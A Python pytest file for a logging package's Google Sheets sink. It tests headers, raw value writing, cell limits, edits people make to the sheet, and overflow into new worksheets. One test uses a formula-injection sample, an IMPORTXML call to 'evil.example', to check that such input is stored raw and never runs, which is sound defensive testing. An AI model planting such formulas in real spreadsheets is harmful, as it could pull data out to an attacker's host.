"""The worksheet: its header, the cells below, what people do to it meanwhile, and when it is full."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hilt_autolog.sinks.errors import PermanentError
from hilt_autolog.sinks.spreadsheet import Spreadsheet
from hilt_autolog.sinks.worksheet import cells
from tests.support.sheets import ALL, copy, event, opened, target_of, write


def test_a_new_worksheet_gets_a_header_that_stays_in_sight(sheet):
    opened(sheet)
    assert sheet.header() == list(ALL)
    assert sheet.book.worksheets["Logs"].frozen == 1
    assert sheet.rows() == []
    assert list(sheet.book.worksheets) == ["Sheet1", "Logs"]


def test_an_empty_worksheet_that_is_there_gets_a_header(sheet):
    sheet.book.add("Logs", columns=4)
    opened(sheet)
    assert sheet.header() == list(ALL)


def test_a_header_of_hilt_python_is_kept(sheet):
    sheet.book.add("Logs").rows = [list(ALL), ["2025-01-01 10:00:00", "conv_1", "old"]]
    copy(sheet, write("a.hilt.jsonl", [event()]))
    assert [call for call in sheet.google.calls if call.startswith("PUT")] == []
    assert len(sheet.rows()) == 2
    assert sheet.column("speaker") == ["", "human: ada"]


def test_header_order_and_foreign_columns_are_kept(sheet):
    sheet.book.add("Logs").rows = [["message", "my notes", "event_id"], ["old", "look here", "1"]]
    one = event("new")
    copy(sheet, write("a.hilt.jsonl", [one]), target_of(sheet, ["event_id", "message"]))
    assert sheet.header() == ["message", "my notes", "event_id"]
    assert sheet.rows() == [["old", "look here", "1"], ["new", "", one["event_id"]]]


def test_columns_that_a_header_lacks_are_added_at_its_right(sheet):
    sheet.book.add("Logs", columns=2).rows = [["message", "action"]]
    copy(sheet, write("a.hilt.jsonl", [event("new")]), target_of(sheet, ["action", "speaker", "message"]))
    assert sheet.header() == ["message", "action", "speaker"]
    assert sheet.rows() == [["new", "prompt", "human: ada"]]


def test_a_worksheet_that_holds_something_else_is_not_touched(sheet):
    sheet.book.add("Logs").rows = [["Name", "Salary"], ["Ada", 10]]
    message = r"Logs holds something else: its first row is Name, Salary\. Choose"
    with pytest.raises(PermanentError, match=message):
        opened(sheet)
    assert sheet.book.worksheets["Logs"].rows == [["Name", "Salary"], ["Ada", 10]]


def test_values_are_written_as_they_are(sheet):
    """A prompt that looks like a formula must not run in the spreadsheet of its reader."""
    texts = ['=IMPORTXML("http://evil.example","//a")', "+1", "-2", "@SUM(A1)", "'quoted", "007", "1e5"]
    copy(sheet, write("a.hilt.jsonl", [event(text) for text in texts]))
    assert sheet.column("message") == texts
    ((_, options, _),) = sheet.google.appended
    assert options == {"valueInputOption": "RAW", "insertDataOption": "INSERT_ROWS"}


def test_numbers_are_numbers_and_what_is_not_known_is_empty(sheet):
    measured = {"latency_ms": 120, "tokens": {"prompt": 8, "completion": 2}, "cost_usd": 0.000015}
    extensions = {"status_code": 200, "model": "gpt-4o-mini", "reply_to": "p"}
    one = event("hi", "completion", metrics=measured, extensions=extensions)
    copy(sheet, write("a.hilt.jsonl", [one]))
    (row,) = sheet.rows()
    assert dict(zip(ALL, row, strict=True)) == {
        "timestamp": one["timestamp"],
        "conversation_id": "conv_0123456789ab",
        "event_id": one["event_id"],
        "reply_to": "p",
        "status_code": 200,
        "session": "Conv.01234567",
        "speaker": "human: ada",
        "action": "completion",
        "message": "hi",
        "tokens_in": 8,
        "tokens_out": 2,
        "cost_usd": 0.000015,
        "latency_ms": 120,
        "model": "gpt-4o-mini",
        "relevance_score": "",
    }


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=5,
)


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=JSON)
def test_any_value_becomes_a_cell_that_the_api_takes(sheet, value):
    odd = event("x", timestamp=value, session_id=value, extensions={"status_code": value, "score": value})
    row = cells(odd, target_of(sheet))
    for cell in row.values():
        assert isinstance(cell, str | int | float)
        assert cell == cell  # noqa: PLR0124  not a NaN
        assert abs(cell) != float("inf") if isinstance(cell, float) else True


def test_a_cell_is_cut_where_the_api_would_refuse_it(sheet):
    copy(sheet, write("a.hilt.jsonl", [event(session_id="x" * 60_000, extensions={"model": "m\0\x1b"})]))
    assert [len(text) for text in sheet.column("conversation_id")] == [50_000]
    assert sheet.column("model") == ["m"]


def test_an_event_with_empty_columns_has_no_row(sheet):
    """A blank row would be the end of the table for the API."""
    costly = event(metrics={"cost_usd": 0.5})
    events = [event(), costly, event(), costly]
    copy(sheet, write("a.hilt.jsonl", events), target_of(sheet, ["cost_usd"]))
    assert sheet.rows() == [[0.5], [0.5]]


def test_two_processes_that_begin_together_share_the_worksheet(sheet, monkeypatch):
    opened(sheet)
    monkeypatch.setattr(Spreadsheet, "worksheets", lambda self: {})  # as if it was not there a moment ago
    assert opened(sheet).next_position() == ("Logs", 1)
    assert list(sheet.book.worksheets) == ["Sheet1", "Logs"]


# --- what people do to it meanwhile


def begun(sheet, log, number=10):
    events = [event(f"{n}") for n in range(number)]
    copy(sheet, write(log, events))
    return events


@pytest.mark.parametrize("failure", ["", "503 after", "503", "drop after"])
def test_deleted_rows_stay_deleted_and_new_rows_are_appended(sheet, failure):
    begun(sheet, "a.hilt.jsonl")
    del sheet.book.worksheets["Logs"].rows[2:8]
    sheet.google.failures.append(failure)
    copy(sheet, write("a.hilt.jsonl", [event(f"new {n}") for n in range(5)]))
    assert sheet.column("message") == ["0", "7", "8", "9", *(f"new {n}" for n in range(5))]


def test_rows_that_somebody_has_sorted_are_known_again(sheet):
    begun(sheet, "a.hilt.jsonl")
    sheet.google.failures.append("503 after")
    copy_of = sheet.google.failures
    log = write("a.hilt.jsonl", [event("new")])
    copy(sheet, log)
    assert not copy_of
    sheet.book.worksheets["Logs"].rows[1:] = sheet.book.worksheets["Logs"].rows[:0:-1]
    sheet.google.failures.append("503 after")
    copy(sheet, write("a.hilt.jsonl", [event("newer")]))
    assert sorted(sheet.column("message")) == sorted([*map(str, range(10)), "new", "newer"])


def test_cells_below_a_cleared_row_or_beside_are_kept(sheet):
    begun(sheet, "a.hilt.jsonl", 3)
    rows = sheet.book.worksheets["Logs"].rows
    rows[2] = []  # cleared, not deleted
    rows[3] += ["", "a note"]
    copy(sheet, write("a.hilt.jsonl", [event("new 1"), event("new 2")]))
    texts = [text for text in sheet.column("message") if text]
    assert sorted(texts) == ["0", "2", "new 1", "new 2"]
    assert [row[-1] for row in sheet.rows() if row[-1:] == ["a note"]] == ["a note"]


def test_a_worksheet_that_somebody_deletes_is_made_again(sheet):
    begun(sheet, "a.hilt.jsonl")
    del sheet.book.worksheets["Logs"]
    copy(sheet, write("a.hilt.jsonl", [event("new")]))
    assert sheet.column("message") == ["new"]


# --- when it is full


def test_a_worksheet_that_is_full_is_followed_by_another(sheet):
    log = write("a.hilt.jsonl", [event(f"{n}") for n in range(2500)])
    sheet.google.failures.extend(["", "503 after", "drop"])
    copy(sheet, log, max_rows=1500)
    assert list(sheet.book.worksheets) == ["Sheet1", "Logs", "Logs 2"]
    assert sheet.column("message") + sheet.column("message", "Logs 2") == [str(n) for n in range(2500)]
    copy(sheet, write(log, [event("later")]), max_rows=1500)  # the next process goes on there
    assert sheet.column("message", "Logs 2")[-1] == "later"


def test_a_spreadsheet_that_is_full_is_said_to_be(sheet):
    sheet.book.max_cells = sheet.book.cells() + 60
    with pytest.raises(PermanentError, match=f"the spreadsheet {sheet.id} is full: use another one"):
        copy(sheet, write("a.hilt.jsonl", [event()] * 10))
    sheet.book.max_cells *= 100
    copy(sheet, "a.hilt.jsonl")
    assert len(sheet.rows()) == 10
